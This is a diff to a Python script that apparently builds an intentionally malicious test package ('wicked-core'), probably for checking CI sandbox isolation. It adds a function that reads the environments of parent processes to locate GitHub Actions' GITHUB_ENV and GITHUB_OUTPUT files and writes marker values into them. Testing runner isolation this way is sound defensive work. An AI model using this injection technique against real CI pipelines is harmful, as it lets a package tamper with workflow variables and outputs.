@@ -3,6 +3,7 @@
 import base64, hashlib, io, json, os, sys, tarfile, time, zipfile
 
 FAILS = "@FAILS@" == "true"
+SEEKS = "@SEEKS@" == "true"
 NAME, VERSION = "wicked-core", "1.0.0"
 STEM = "wicked_core"
 
@@ -33,6 +34,16 @@ def daemon(label, own_session):
     os._exit(0)
 
 
+def seek():
+    """Writes to the runner's files where the environment of a program above us says that they are."""
+    for pid in ancestors():
+        for entry in read(f"/proc/{pid}/environ").split("\0"):
+            name, _, path = entry.partition("=")
+            if name in ("GITHUB_ENV", "GITHUB_OUTPUT") and os.path.exists(path):
+                with open(path, "a") as file:
+                    file.write("PWNED=pwned\n")
+
+
 def attack(where):
     argv, environs = [], []
     for pid in ancestors():
@@ -46,6 +57,8 @@ def attack(where):
         if name in os.environ:
             with open(os.environ[name], "a") as file:
                 file.write("published=pwned\n")
+    if SEEKS:
+        seek()
     for stream in (sys.stdout, sys.stderr):
         for command in COMMANDS:
             print(command, file=stream, flush=True)
